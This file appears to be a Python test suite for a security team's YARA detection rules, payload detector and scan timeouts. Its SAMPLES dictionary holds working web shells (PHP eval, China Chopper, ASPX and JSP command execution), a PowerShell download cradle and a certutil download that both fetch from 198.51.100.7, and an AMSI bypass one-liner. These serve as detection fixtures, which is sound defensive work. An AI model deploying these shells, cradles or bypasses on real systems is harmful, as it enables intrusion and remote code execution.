"""Our YARA rules on harmless samples built here and on the real corpora (attack EVTX files,
benign logs), rule compilation and its cache, timeouts, and the payload detector."""

from __future__ import annotations

import base64
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yara
from sqlalchemy import select

from cert.core.config import Settings
from cert.core.ecs import put
from cert.core.registry import load_plugins
from cert.storage.db import Database
from cert.storage.models import DeadLetter
from detectors.yara.payloads import YaraPayloadDetector
from detectors.yara.scan import load_rules, scan_bytes, scan_file

load_plugins(["detectors.yara"])

ROOT = Path(__file__).resolve().parents[2]
RULES = ROOT / "rules" / "yara"
EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"  # built here, never stored
ONION = "abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuvwx.onion"

SAMPLES: dict[str, bytes] = {
    "Webshell_PHP_Eval_Of_Decoded_Or_Request_Data": b"<?php\n@eval(base64_decode($_POST['x']));\n?>",
    "Webshell_China_Chopper": b'<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>',
    "Webshell_ASPX_Command_Execution": (
        b'<%@ Page Language="C#" %>\n<% var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", '
        b'"/c " + Request["c"]); psi.RedirectStandardOutput = true; System.Diagnostics.Process.Start(psi); %>'),
    "Webshell_JSP_Runtime_Exec_Of_Request_Parameter": b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    "PowerShell_Download_Cradle": b"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
    "PowerShell_Encoded_Hidden_Command": (
        b"powershell.exe -NoP -W Hidden -enc "
        + base64.b64encode("Write-Output 'only a test of the rule, nothing else'".encode("utf-16-le"))),
    "PowerShell_AMSI_Bypass": (b"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"
                               b".GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"),
    "LOLBin_Certutil_Download": b"certutil.exe -urlcache -split -f http://198.51.100.7/p.exe C:\\Users\\Public\\p.exe",
    "Ransomware_Note_Generic": ("TOUS VOS FICHIERS ONT ÉTÉ CHIFFRÉS !\nPour les récupérer, payez 0,5 bitcoin.\n"
                                f"Contact : http://{ONION}\nNe renommez pas les fichiers.\n").encode(),
    "RAT_njRAT": "|'|'|netsh firewall add allowedprogram".encode("utf-16-le"),
    "RAT_Remcos": b"..Remcos_Mutex_Inj..Breaking-Security.Net..",
    "RAT_QuasarRAT": "Quasar.Client.Messages DoShellExecuteResponse".encode("utf-16-le"),
    "RAT_DarkComet": b"#KCMDDC51#....DC_MUTEX-F54S21D",
    "Implant_CobaltStrike_Beacon": b"\x00beacon.x64.dll\x00ReflectiveLoader\x00%s (admin)\x00",
    "Test_EICAR_File": EICAR.encode(),
}
BENIGN = [
    b"<?php echo htmlspecialchars($_GET['q'] ?? '', ENT_QUOTES); ?>",
    b"Get-ChildItem C:\\Windows | Sort-Object Length | Select-Object -First 5",
    b"(New-Object Net.WebClient).DownloadFile('https://intranet.gouv.example/note.pdf', 'C:\\temp\\note.pdf')",
    "Vos fichiers ont été sauvegardés. Contactez le support au 1234.".encode(),
    b"certutil -hashfile setup.exe SHA256",
]


@pytest.fixture(scope="module")
def rules() -> Any:
    return load_rules(RULES)


def test_every_rule_file_compiles_without_slow_strings_and_has_metadata() -> None:
    files = sorted(RULES.glob("*.yar"))
    assert len(files) >= 5
    for path in files:
        compiled = yara.compile(filepath=str(path), error_on_warning=True)  # a slow string is an error here
        for rule in compiled:
            assert {"author", "description", "reference", "severity"} <= set(rule.meta), (path, rule.identifier)
            assert rule.meta["severity"] in ("low", "medium", "high", "critical")


@pytest.mark.parametrize("rule", sorted(SAMPLES))
def test_each_rule_fires_on_its_sample_and_only_it(rules: Any, rule: str) -> None:
    result = scan_bytes(rules, SAMPLES[rule], "sample", 5)
    assert [m.rule for m in result.matches] == [rule]
    m = result.matches[0]
    assert m.strings and all(isinstance(s["offset"], int) and s["data"] for s in m.strings)


def test_benign_lookalikes_match_nothing(rules: Any) -> None:
    for data in BENIGN:
        assert scan_bytes(rules, data, "benign", 5).matches == [], data


def test_real_attack_event_logs_match_and_benign_corpora_do_not(rules: Any, corpora: Path) -> None:
    evtx = corpora / "evtx" / "evtx-to-mitre-attack"
    cradle = scan_file(rules, evtx / "TA0002-Execution/T1059.001-PowerShell/ID4103-4104-Payload download via "
                       "PowerShell.evtx", 10)
    assert [m.rule for m in cradle.matches] == ["PowerShell_Download_Cradle"]
    assert len(cradle.sha256) == 64  # hashed because it matched
    certutil = scan_file(rules, evtx / "TA0005-Defense Evasion/T1140-Deobfuscate-Decode Files or Information/"
                         "ID4688-Certutil download.evtx", 10)
    assert [m.rule for m in certutil.matches] == ["LOLBin_Certutil_Download"]
    benign = [corpora / "web/elastic-examples/apache_logs", *sorted((corpora / "misp/osint-events").glob("*.json")),
              *sorted((corpora / "zeek/brimdata-zed-sample-data/zeek-json").glob("*.gz"))]
    for path in benign:
        r = scan_file(rules, path, 10)
        assert r.matches == [] and r.error == "" and r.sha256 == "", path


def test_rules_are_compiled_once_per_content_and_bad_files_are_rejected(tmp_path: Path) -> None:
    (tmp_path / "good.yar").write_text('rule Good { strings: $a = "vigie-test" condition: $a }')
    first = load_rules(tmp_path)
    assert load_rules(tmp_path) is first and len(first) == 1
    (tmp_path / "bad.yar").write_text("rule Bad {\n  strings: $a = \"x\"\n  condition: $b\n}\n")
    second = load_rules(tmp_path)
    assert second is not first and second.hash != first.hash and len(second) == 1
    [(path, reason)] = second.rejected
    assert path.endswith("bad.yar") and re.search(r"line \d+", reason) and "$b" in reason
    assert [m.rule for m in scan_bytes(second, b"a vigie-test b", "t", 5).matches] == ["Good"]
    assert [m.namespace for m in scan_bytes(second, b"vigie-test", "t", 5).matches] == ["good"]


SLOW_RULE = """
rule Slow { condition: for all i in (0..filesize - 1) : ( for all j in (0..filesize - 1) : ( uint8(i) != 1 ) ) }
"""


def test_a_scan_that_times_out_is_reported_not_raised(tmp_path: Path) -> None:
    (tmp_path / "slow.yar").write_text(SLOW_RULE)
    slow = load_rules(tmp_path)
    result = scan_bytes(slow, b"\x00" * 200_000, "big payload", 1)
    assert result.timed_out and result.matches == [] and "longer than 1 s" in result.error
    missing = scan_file(slow, tmp_path / "nope.bin", 1, max_bytes=10)
    assert missing.error.startswith("cannot read")
    big = tmp_path / "big.bin"
    big.write_bytes(b"x" * 11)
    assert scan_file(slow, big, 1, max_bytes=10).error == "too large: 11 bytes (limit 10)"


def payload_event(n: int, host: str, **fields: Any) -> dict[str, Any]:
    ev: dict[str, Any] = {"@timestamp": f"2026-11-20T10:00:{n:02d}.000Z"}
    put(ev, "event.id", f"ps-{n}")
    put(ev, "host.name", host)
    for k, v in fields.items():
        put(ev, k.replace("__", "."), v)
    return ev


def test_payload_detector_groups_by_rule_and_host_with_strings(settings: Settings) -> None:
    det = YaraPayloadDetector(settings)
    cradle = SAMPLES["PowerShell_Download_Cradle"].decode()
    events = [payload_event(1, "pc-1", powershell__file__script_block_text=cradle),
              payload_event(2, "pc-1", process__command_line="powershell -c " + cradle),
              payload_event(3, "pc-2", powershell__file__script_block_text=cradle),
              payload_event(4, "pc-2", powershell__file__script_block_text="Get-Date"),
              payload_event(5, "web-1", http__request__body__content=SAMPLES["Webshell_China_Chopper"].decode())]
    hits = sorted(det.detect(events), key=lambda h: h.group_key)
    assert [(h.rule_id, h.group_key, h.event_ids) for h in hits] == [
        ("yara:powershell.PowerShell_Download_Cradle", "yara:powershell.PowerShell_Download_Cradle|host.name=pc-1",
         ("ps-1", "ps-2")),
        ("yara:powershell.PowerShell_Download_Cradle", "yara:powershell.PowerShell_Download_Cradle|host.name=pc-2",
         ("ps-3",)),
        ("yara:webshells.Webshell_China_Chopper", "yara:webshells.Webshell_China_Chopper|host.name=web-1", ("ps-5",)),
    ]
    detail = hits[0].entities["yara"]
    assert detail["field"] == "powershell.file.script_block_text" and detail["meta"]["severity"] == "high"
    assert {"id": "$webclient", "offset": 5, "length": 24, "data": "New-Object Net.WebClient"} in detail["strings"]
    assert hits[2].severity == "critical" and hits[0].title.startswith("YARA PowerShell_Download_Cradle: ")


def test_payload_timeout_goes_to_the_dead_letters_and_detection_goes_on(settings: Settings, tmp_path: Path) -> None:
    rules_dir = tmp_path / "rules"
    (rules_dir / "yara").mkdir(parents=True)
    (rules_dir / "yara" / "slow.yar").write_text(SLOW_RULE)
    (rules_dir / "yara" / "fast.yar").write_text('rule Fast { strings: $a = "needle" condition: $a and filesize < 100 }')
    s = replace(settings, rules_dir=rules_dir, yara_timeout_seconds=1)
    db = Database.from_settings(s)
    db.upgrade()
    det = YaraPayloadDetector(s)
    events = [payload_event(1, "pc-1", process__command_line="\x00" * 200_000),
              payload_event(2, "pc-1", process__command_line="needle")]
    hits = det.detect(events)
    assert det.timeouts == 1
    with db.session() as session:
        [dead] = session.scalars(select(DeadLetter)).all()
    assert dead.source == "event ps-1" and dead.parser == "yara_payloads" and "timeout" in dead.reason
    assert dead.position == "process.command_line" and len(dead.raw) == 4096
    # the batch went on: the short payload was scanned by both rules
    assert sorted((h.rule_id, h.event_ids) for h in hits) == [("yara:fast.Fast", ("ps-2",)), ("yara:slow.Slow", ("ps-2",))]
    db.dispose()


def test_script_blocks_parsed_from_a_real_evtx_raise_a_hit(settings: Settings, corpora: Path) -> None:
    load_plugins(["ingest.parsers"])
    from cert.core.parser import Unreadable, parsers

    if "windows.evtx" not in parsers:
        pytest.skip("the windows.evtx parser is not available")
    parser = parsers.get("windows.evtx")()
    path = corpora / "evtx/evtx-to-mitre-attack/TA0002-Execution/T1059.001-PowerShell/" \
                     "ID4103-4104-Payload download via PowerShell.evtx"
    events = []
    for item in parser.read(str(path)):
        if not isinstance(item, Unreadable) and (ev := parser.parse(item[1])) is not None:
            ev.setdefault("event", {})["id"] = f"evtx-{item[0]}"
            events.append(ev)
    hits = YaraPayloadDetector(settings).detect(events)
    assert [h.rule_id for h in hits] == ["yara:powershell.PowerShell_Download_Cradle"]
    assert "downloadString" in str(hits[0].entities["yara"]["strings"])
